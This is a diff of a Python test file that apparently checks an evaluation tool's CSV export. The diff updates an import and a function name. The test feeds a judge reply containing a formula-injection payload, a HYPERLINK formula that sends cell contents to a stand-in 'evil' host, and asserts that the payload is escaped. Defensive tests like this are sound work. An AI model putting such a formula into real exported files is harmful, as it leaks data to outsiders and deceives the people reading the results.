@@ -15,7 +15,7 @@ from needlework.models.estimates import Estimate
 from needlework.models.estimates import write_csv as write_estimates
 from needlework.planning.layout import ROOT
 from needlework.records import GENERATIONS
-from needlework.results.page import judge
+from needlework.results.numbers import judge_verdicts
 
 LIVE = [
     '=HYPERLINK("http://evil/?"&A1,"CORRECT")',
@@ -55,7 +55,7 @@ def test_a_judges_reply_is_no_formula() -> None:
     keys = {"judged_benchmark": ["m"], "model": ["m"], "judged": ["x"], "judged_sample": [0]}
     reply = dict.fromkeys(GENERATIONS.names) | {"instance_id": "a", "text": LIVE[0]}
     replies = pa.Table.from_pylist([reply | {"finish_reason": "stop"}], schema=GENERATIONS)
-    found = judge.verdicts(pa.table({"instance_id": ["a"], **keys}), replies)
+    found = judge_verdicts.verdicts(pa.table({"instance_id": ["a"], **keys}), replies)
     assert found["reply"].tolist() == [f"'{LIVE[0]}"]
 
 
